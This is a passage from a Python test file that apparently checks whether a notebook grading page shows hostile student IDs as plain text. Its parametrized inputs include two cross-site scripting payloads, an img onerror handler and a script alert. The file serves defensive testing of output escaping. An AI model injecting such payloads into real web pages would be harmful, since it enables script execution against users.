    assert "&lt;b&gt;&lt;i&gt;" * 100 in page


@pytest.mark.parametrize("student", ['<img src=x onerror="window.__pwned=1">', "a</a><script>alert(1)</script>"])
def test_formgrader_shows_a_hostile_student_id_as_text(student):
    nb = graded(honest(cells=9), message="f(a) returned the wrong shape")
    page = formgrade_page(nb, student=student)
    assert not active_content(page, formgrade_page(nb))
    assert student in readable(page)[0]
